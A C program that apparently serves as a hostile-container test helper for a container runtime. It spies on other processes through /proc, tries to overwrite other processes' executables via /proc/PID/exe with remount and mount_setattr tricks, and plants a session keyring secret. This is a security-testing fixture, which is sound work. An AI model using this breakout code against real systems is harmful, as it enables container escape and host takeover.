/* What a hostile container does to the runtime that enters it:
 *
 *   attacker spy                 looks at every other process through /proc, and says once for each what it found, and
 *                                `seen N` at last: `root DEV:INODE`, `cwd DEV:INODE`, `fd TARGET`, `file INODE`, `directory DEV:INODE`
 *   attacker overwrite           holds every /proc/PID/exe that is not its own open, makes it writable by all ways there
 *                                are, and writes: `held N`, `wrote N`
 *   attacker keyring COMMAND...  executes the command with a session keyring that has the key `fumehood-secret`
 *
 * The first two go on until their standard input ends.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST 512
static char *said[MOST];
static int count;

static void say(const char *what, const char *found) {
    char line[PATH_MAX + 64];
    snprintf(line, sizeof line, "%s %s", what, found);
    for (int n = 0; n < count; n++)
        if (!strcmp(said[n], line)) return;
    if (count == MOST) return;
    said[count++] = strdup(line);
    puts(line);
    fflush(stdout);
}

static int goes_on(void) {
    struct pollfd input = {.fd = 0, .events = POLLIN};
    return poll(&input, 1, 0) == 0;
}

static void say_place(const char *what, const char *path) {
    struct stat found;
    char text[64];
    if (stat(path, &found)) return;
    snprintf(text, sizeof text, "%lx:%lu", (long)found.st_dev, (unsigned long)found.st_ino);
    say(what, text);
}

static void look_at(const char *pid, int *seen) {
    char path[PATH_MAX], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%s/root", pid);
    say_place("root", path);
    snprintf(path, sizeof path, "/proc/%s/cwd", pid);
    say_place("cwd", path);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *dir = opendir(path);
    if (!dir) return;
    ++*seen;
    struct dirent *entry;
    while ((entry = readdir(dir))) {
        ssize_t length;
        if (!isdigit(entry->d_name[0])) continue;
        length = readlinkat(dirfd(dir), entry->d_name, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        say("fd", target);
        struct stat found;
        if (fstatat(dirfd(dir), entry->d_name, &found, 0)) continue;
        /* The way out: what is below a directory that is not ours. */
        if (S_ISDIR(found.st_mode)) {
            snprintf(path, sizeof path, "%lx:%lu", (long)found.st_dev, (unsigned long)found.st_ino);
            say("directory", path);
        }
        if (S_ISREG(found.st_mode)) {
            snprintf(path, sizeof path, "%lu", (unsigned long)found.st_ino);
            say("file", path);
        }
    }
    closedir(dir);
}

static int spy(void) {
    char own[16], count_text[16];
    int seen = 0;
    snprintf(own, sizeof own, "%d", getpid());
    puts("ready");
    fflush(stdout);
    while (goes_on()) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while (dir && (entry = readdir(dir)))
            if (isdigit(entry->d_name[0]) && strcmp(entry->d_name, own) && strcmp(entry->d_name, "1"))
                look_at(entry->d_name, &seen);
        if (dir) closedir(dir);
    }
    snprintf(count_text, sizeof count_text, "%d", seen);
    say("seen", count_text);
    return 0;
}

struct attributes { unsigned long long set, clear, propagation, userns; };

/* 442 is mount_setattr(2), 428 open_tree(2). */
static int try_write(int held) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int fd = open(path, O_WRONLY);
    if (fd < 0) {
        struct attributes writable = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
        syscall(442, held, "", AT_EMPTY_PATH, &writable, sizeof writable);
        mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
        mount(NULL, path, NULL, MS_REMOUNT, NULL);
        int tree = syscall(428, held, "", AT_EMPTY_PATH | 1 | O_CLOEXEC);
        if (tree >= 0) {
            syscall(442, tree, "", AT_EMPTY_PATH, &writable, sizeof writable);
            char through[64];
            snprintf(through, sizeof through, "/proc/self/fd/%d", tree);
            fd = open(through, O_WRONLY);
            close(tree);
        }
        if (fd < 0) fd = open(path, O_WRONLY);
    }
    if (fd < 0) return 0;
    int wrote = write(fd, "#!/bin/sh\n# pwned\n", 18) == 18;
    close(fd);
    return wrote;
}

static int overwrite(void) {
    enum { HELD = 32 };
    int held[HELD], holding = 0, holds = 0, wrote = 0;
    struct stat own, other;
    char own_pid[16], path[PATH_MAX];
    stat("/proc/self/exe", &own);
    snprintf(own_pid, sizeof own_pid, "%d", getpid());
    puts("ready");
    fflush(stdout);
    while (goes_on()) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while (dir && (entry = readdir(dir))) {
            if (!isdigit(entry->d_name[0]) || !strcmp(entry->d_name, own_pid) || !strcmp(entry->d_name, "1")) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH);
            if (fd < 0) continue;
            if (fstat(fd, &other) || (other.st_dev == own.st_dev && other.st_ino == own.st_ino)) {
                close(fd);
                continue;
            }
            holds++;
            if (holding < HELD) held[holding++] = fd;
            else {
                close(held[holds % HELD]);
                held[holds % HELD] = fd;
            }
            wrote += try_write(fd);
        }
        if (dir) closedir(dir);
        /* ETXTBSY goes away with the process. */
        for (int n = 0; n < holding; n++) wrote += try_write(held[n]);
    }
    printf("held %d\nwrote %d\n", holds, wrote);
    return 0;
}

static int keyring(char **command) {
    /* KEYCTL_JOIN_SESSION_KEYRING; KEY_SPEC_SESSION_KEYRING; all rights for everybody. */
    if (syscall(SYS_keyctl, 1, NULL) < 0) { perror("join"); return 3; }
    long key = syscall(SYS_add_key, "user", "fumehood-secret", "x", 1, -3);
    if (key < 0) { perror("add_key"); return 3; }
    if (syscall(SYS_keyctl, 5, key, 0x3f3f3f3f) < 0) { perror("setperm"); return 3; }
    execv(command[0], command);
    perror(command[0]);
    return 3;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    if (!strcmp(argv[1], "spy")) return spy();
    if (!strcmp(argv[1], "overwrite")) return overwrite();
    if (argc > 2 && !strcmp(argv[1], "keyring")) return keyring(argv + 2);
    return 2;
}
